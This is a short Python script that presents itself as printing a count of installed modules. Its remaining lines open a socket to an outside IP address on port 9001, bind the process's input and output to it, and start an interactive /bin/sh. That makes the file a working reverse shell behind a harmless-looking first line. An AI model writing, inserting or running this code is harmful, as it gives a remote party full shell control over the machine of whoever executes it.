import socket, subprocess, os, pkgutil

print(len(list(pkgutil.iter_modules())), "modules installed")
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("83.217.9.140", 9001))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
